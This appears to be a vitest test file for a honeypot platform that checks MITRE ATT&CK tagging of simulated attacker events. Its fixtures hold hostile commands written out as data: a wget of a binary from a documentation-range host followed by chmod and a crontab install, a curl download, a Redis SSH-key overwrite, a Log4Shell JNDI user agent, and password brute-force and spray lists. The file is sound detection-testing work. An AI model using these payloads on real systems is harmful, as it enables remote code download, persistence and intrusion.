// ATT&CK tagging at ingest on real libSQL files, through both ingest paths (native synchronous and
// driver batch): per-event rules tag attacker and session with evidence, behaviour rules fire on the
// folded aggregates, retries do not double counts, and an admin's disable/cap is honoured by ingest.
import { credentialFields, type ServiceEvent } from '@decnet/protocol';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HostRow } from '../../db/schema';
import { attackTags } from '../../db/schema';
import type { AppDeps } from '../../deps';
import { openNative } from '../../runtime/node-database';
import { memoryDeps } from '../../testing/memory-deps';
import { ingestEvents } from '../agent/ingest-events';
import { attackerIdFor } from '../intel/aggregate';
import { techniquesForAttackers, attackMatrix } from './query';
import { patchAttackRule } from './rules-admin';

const dir = mkdtempSync(join(tmpdir(), 'decnet-attack-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const host = { id: 'host-1' } as HostRow;
const T0 = Date.parse('2026-03-01T10:00:00Z');
let n = 0;
function ev(ip: string, service: string, eventType: string, fields: Record<string, string>, atS: number, decky = 'web-01'): ServiceEvent {
  const ts = new Date(T0 + atS * 1000).toISOString();
  return { id: `ev-${n++}`, ts, decky, service, eventType, srcIp: ip, srcPort: 40000, fields, raw: `<134>1 ${ts} ${decky} ${service} - ${eventType} -` };
}

const SHELL = '198.51.100.10';
const REDIS = '198.51.100.11';
const WEB = '198.51.100.12';
const BRUTE = '198.51.100.13';
const SPRAY = '198.51.100.14';
const BEACON = '198.51.100.15';

function scenario(): ServiceEvent[][] {
  const sh = { session_id: 'sh-1' };
  const brute = Array.from({ length: 12 }, (_, i) => ev(BRUTE, 'ssh', 'auth_attempt', { session_id: `b-${i}`, ...credentialFields('root', ['toor', '123456', 'pass', 'qwerty', 'letmein', 'admin'][i % 6]!, 'plaintext', i === 11 ? 'success' : 'failure') }, 100 + i));
  // root/admin also tried on a second decky: the same credential on two targets (stuffing).
  brute.push(ev(BRUTE, 'ssh', 'auth_attempt', { session_id: 'b-x', ...credentialFields('root', 'admin', 'plaintext', 'failure') }, 130, 'db-01'));
  const spray = ['alice', 'bob', 'carol', 'dave', 'erin'].map((u, i) => ev(SPRAY, 'ftp', 'auth_attempt', credentialFields(u, 'Summer2024!', 'plaintext', 'failure'), 200 + i));
  const beacon = Array.from({ length: 10 }, (_, i) => ev(BEACON, 'http', 'connect', {}, 1000 + i * 60));
  return [
    [
      ev(SHELL, 'ssh', 'connect', sh, 0),
      ev(SHELL, 'ssh', 'command', { ...sh, cmd: 'wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; crontab /tmp/c' }, 1),
      ev(REDIS, 'redis', 'command', { cmd: 'CONFIG', args: JSON.stringify(['SET', 'dir', '/root/.ssh']), argc: '3' }, 2),
      ev(WEB, 'http', 'request', { method: 'GET', path: '/index.php', query: 'id=1', user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, 3),
      ev(WEB, 'http', 'request', { method: 'GET', path: '/', user_agent: '${jndi:ldap://203.0.113.7:1389/a}' }, 4),
      ...brute.slice(0, 6),
    ],
    [...brute.slice(6), ...spray, ...beacon, ev(SHELL, 'ssh', 'command', { ...sh, cmd: 'wget http://203.0.113.9/y' }, 5)],
  ];
}

async function open(name: string, native: boolean): Promise<AppDeps> {
  const url = `file:${join(dir, `${name}.db`)}`;
  const base = await memoryDeps({}, { now: T0 + 86_400_000 }, url);
  return { ...base, ...(native ? { syncSql: openNative(url) } : {}) };
}

const techniquesOf = async (deps: AppDeps, ip: string) => (await techniquesForAttackers(deps, [attackerIdFor(ip)])).techniques;
const ids = async (deps: AppDeps, ip: string) => (await techniquesOf(deps, ip)).map((t) => t.techniqueId).sort();

describe.each([['native', true], ['batch', false]] as const)('ATT&CK tagging at ingest (%s path)', (name, native) => {
  let deps: AppDeps;
  beforeAll(async () => {
    deps = await open(name, native);
    const batches = scenario();
    for (const b of batches) await ingestEvents(deps, host, b);
    await ingestEvents(deps, host, batches[1]!); // a retry: stores nothing, tags nothing twice
  });

  it('tags shell commands on the attacker and its session, with evidence', async () => {
    expect(await ids(deps, SHELL)).toEqual(['T1053.003', 'T1105', 'T1222.002']);
    const transfer = (await techniquesOf(deps, SHELL)).find((t) => t.techniqueId === 'T1105')!;
    expect(transfer.name).toBe('Ingress Tool Transfer');
    expect(transfer.tags).toHaveLength(1);
    expect(transfer.tags[0]!.sessionId).toBe('host-1/web-01/ssh/sh-1');
    expect(transfer.tags[0]!.count).toBe(2);
    expect(transfer.tags[0]!.evidence.command).toContain('wget http://203.0.113.9/x');
  });

  it('tags the redis SSH-key trick and web attacks', async () => {
    expect(await ids(deps, REDIS)).toEqual(['T1098.004']);
    expect(await ids(deps, WEB)).toEqual(['T1190', 'T1595.002']);
    const jndi = (await techniquesOf(deps, WEB)).find((t) => t.techniqueId === 'T1190')!;
    expect(jndi.tags.map((t) => t.ruleId).sort()).toEqual(['R0007', 'R0008']);
  });

  it('runs behaviour rules on the aggregates across batches', async () => {
    expect(await ids(deps, BRUTE)).toEqual(['T1078', 'T1078.001', 'T1110', 'T1110.001', 'T1110.004']);
    const guessing = (await techniquesOf(deps, BRUTE)).find((t) => t.techniqueId === 'T1110.001')!;
    expect(guessing.tags[0]!.evidence).toMatchObject({ principal: 'root', secret_count: 6 });
    expect(await ids(deps, SPRAY)).toEqual(['T1110.003']);
    expect(await ids(deps, BEACON)).toEqual(['T1029', 'T1071']);
  });

  it('counts attackers per technique for the matrix', async () => {
    const m = await attackMatrix(deps);
    expect(m.tactics).toHaveLength(14);
    expect(m.techniques.find((t) => t.techniqueId === 'T1190')).toMatchObject({ attackers: 1, tags: 2, name: 'Exploit Public-Facing Application' });
    expect(m.techniques.find((t) => t.techniqueId === 'T1105')).toMatchObject({ attackers: 1, tags: 1 });
  });

  it('honours a disabled rule and a confidence cap at ingest', async () => {
    await patchAttackRule(deps, 'R0012', { enabled: false }, 'admin');
    await patchAttackRule(deps, 'R0026', { confidenceMax: 0.3 }, 'admin');
    try {
      const ip = '198.51.100.99';
      await ingestEvents(deps, host, [
        ev(ip, 'ssh', 'command', { session_id: 'z', cmd: 'curl -o /tmp/k http://203.0.113.9/k' }, 50),
        ev(ip, 'redis', 'command', { cmd: 'CONFIG', args: '["SET","dir","/root/.ssh"]' }, 51),
      ]);
      const rows = await deps.db.select().from(attackTags);
      const mine = rows.filter((r) => r.attackerId === attackerIdFor(ip));
      expect(mine.map((r) => r.techniqueId)).toEqual(['T1098.004']);
      expect(mine[0]!.confidence).toBe(0.3);
    } finally {
      await patchAttackRule(deps, 'R0012', { enabled: true }, 'admin');
      await patchAttackRule(deps, 'R0026', { confidenceMax: null }, 'admin');
    }
  });
});
